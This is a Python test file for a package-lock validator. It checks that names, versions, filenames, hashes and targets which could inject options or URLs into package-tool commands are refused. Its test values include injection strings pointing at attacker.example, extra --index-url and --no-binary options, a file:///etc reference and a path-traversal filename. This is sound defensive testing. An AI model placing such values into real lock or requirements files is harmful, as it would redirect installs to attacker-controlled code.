"""What a lock may name: its words go into files and commands of package tools, whoever wrote the lock."""

from __future__ import annotations

from dataclasses import replace

import pytest
from skillyard.skills.errors import UnsoundLockError
from skillyard.skills.lock import Lock, LockedArtefact, LockedPackage, SourceBuild, Target, exact_pin
from skillyard.skills.skill import Ecosystem

TARGET = Target("3.11", "x86_64-manylinux_2_28")
FILE = LockedArtefact("alpha-1.0-py3-none-any.whl", "a" * 64, 10)
ALPHA = LockedPackage("alpha", "1.0", (FILE,), (), direct=True)
TRICK = "evil @ https://attacker.example/src.tar.gz\n--no-binary evil\nevil"


def lock(*packages: LockedPackage, ecosystem: Ecosystem = Ecosystem.PYPI) -> Lock:
    return Lock(ecosystem, TARGET, packages)


@pytest.mark.parametrize(
    "name",
    [
        TRICK,
        "",
        "-r",
        "--no-binary",
        "alpha[extra]",
        "alpha @ file:///etc",
        "alpha\n",
        " alpha",
        "é1",
        "a" * 216,
        "é",
    ],
)
def test_a_python_name_that_is_none_is_refused(name: str) -> None:
    with pytest.raises(UnsoundLockError, match="is no name of a package of pypi") as refused:
        lock(ALPHA, replace(ALPHA, name=name))
    assert refused.value.field == "packages[1].name"


@pytest.mark.parametrize(
    "version",
    ["", "1.0\n", " 1.0", "1.0 ", "1.0 --no-binary :all:", "1.0\n--index-url https://x.example", "1.*", "1.0;x", "é"],
)
def test_a_python_version_that_is_none_is_refused(version: str) -> None:
    with pytest.raises(UnsoundLockError, match="is no version of pypi") as refused:
        lock(replace(ALPHA, version=version))
    assert refused.value.field == "packages[0].version"


@pytest.mark.parametrize("version", ["1.0", "1!2.0rc1.post2.dev3+local.7", "1.0-1", "2024.1", "0.0.0a0"])
def test_every_version_of_pep_440_may_be_named(version: str) -> None:
    assert lock(replace(ALPHA, version=version)).packages[0].version == version


@pytest.mark.parametrize(
    ("name", "version"), [("@scope/left-pad", "1.2.0"), ("JSONStream", "1.0.0-beta.1+build"), ("_", "0.0.1")]
)
def test_names_and_versions_of_npm_follow_its_own_rules(name: str, version: str) -> None:
    package = LockedPackage(name, version, (), (), direct=True)
    assert lock(package, ecosystem=Ecosystem.NPM).packages == (package,)


@pytest.mark.parametrize(
    ("name", "version"),
    [
        *(("a/b", "1.0.0"), ("@a/b/c", "1.0.0"), ("a b", "1.0.0"), ("a\n", "1.0.0"), ("a" * 215, "1.0.0"), ("..", "1")),
        *(("a", "1 0"), ("a", "git+ssh://x.example/y"), ("a", "1.0.0\n"), ("a", "--x"), ("https://x.example", "1")),
    ],
)
def test_what_is_no_package_of_npm_is_refused(name: str, version: str) -> None:
    with pytest.raises(UnsoundLockError):
        lock(LockedPackage(name, version, (), (), direct=True), ecosystem=Ecosystem.NPM)


@pytest.mark.parametrize(
    ("artefact", "field"),
    [
        (replace(FILE, filename="../alpha.whl"), "filename"),
        (replace(FILE, filename="alpha.whl\n"), "filename"),
        (replace(FILE, filename="-alpha.whl"), "filename"),
        (replace(FILE, filename="alpha.exe"), "filename"),
        (replace(FILE, filename="a" * 252 + ".whl"), "filename"),
        (replace(FILE, sha256="A" * 64), "sha256"),
        (replace(FILE, sha256="a" * 64 + "\n"), "sha256"),
        (replace(FILE, sha256=f"{'a' * 64} --hash=sha256:{'b' * 64}"), "sha256"),
        (replace(FILE, size=-1), "size"),
    ],
)
def test_a_file_that_is_none_is_refused(artefact: LockedArtefact, field: str) -> None:
    with pytest.raises(UnsoundLockError) as refused:
        lock(replace(ALPHA, artefacts=(FILE, artefact)))
    assert refused.value.field == f"packages[0].artefacts[1].{field}"


def test_who_asks_and_what_builds_need_is_checked_too() -> None:
    with pytest.raises(UnsoundLockError) as asker:
        lock(replace(ALPHA, required_by=(TRICK,)))
    with pytest.raises(UnsoundLockError) as built:
        Lock(Ecosystem.PYPI, TARGET, (ALPHA,), (SourceBuild(TRICK, ()),))
    with pytest.raises(UnsoundLockError) as needed:
        Lock(Ecosystem.PYPI, TARGET, (ALPHA,), (SourceBuild("alpha", (replace(ALPHA, name=TRICK),)),))
    assert [one.value.field for one in (asker, built, needed)] == [
        "packages[0].required_by[0]",
        "builds[0].package",
        "builds[0].requirements[0].name",
    ]


@pytest.mark.parametrize(
    "target", [Target("--x", "x86_64"), Target("3.11\n", "x86_64"), Target("3.11", "--x"), Target("3.11", "a b")]
)
def test_a_target_that_is_none_is_refused(target: Target) -> None:
    with pytest.raises(UnsoundLockError):
        Lock(Ecosystem.PYPI, target, ())


@pytest.mark.parametrize(
    ("name", "version"),
    [
        (TRICK, "1.0"),
        ("alpha", "1.0\n--no-binary alpha"),
        ("alpha", "1.0 --no-binary alpha"),
        ("-r", "1"),
        ("a\0", "1"),
    ],
)
def test_a_pin_is_one_name_and_one_version(name: str, version: str) -> None:
    assert exact_pin("alpha", "1!1.0rc1+local") == "alpha==1!1.0rc1+local"
    with pytest.raises(UnsoundLockError):
        exact_pin(name, version)
